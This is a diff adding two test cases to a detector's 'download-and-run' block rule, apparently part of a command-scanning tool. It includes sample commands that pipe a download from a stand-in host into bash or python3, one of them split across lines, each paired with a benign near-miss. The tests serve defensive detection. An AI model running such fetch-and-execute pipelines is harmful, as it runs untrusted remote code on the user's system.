@@ -49,6 +49,22 @@ export const textCases: readonly RuleCase[] = [
     'shells.map(String)',
     'test/a.test.js',
   ),
+  text(
+    'a download into a shell, over three lines',
+    'download-and-run',
+    'block',
+    'curl -s \\\n  https://h.example/x |\n  bash',
+    'curl -s \\\n  https://h.example/x\nbash run.sh',
+    'run.sh',
+  ),
+  text(
+    'a download into an interpreter',
+    'download-and-run',
+    'block',
+    'wget -qO- https://h.example/x | python3 -',
+    'curl -s https://h.example/x | python3 -m json.tool',
+    'run.sh',
+  ),
   {
     rule: 'download-and-run',
     severity: 'hold',
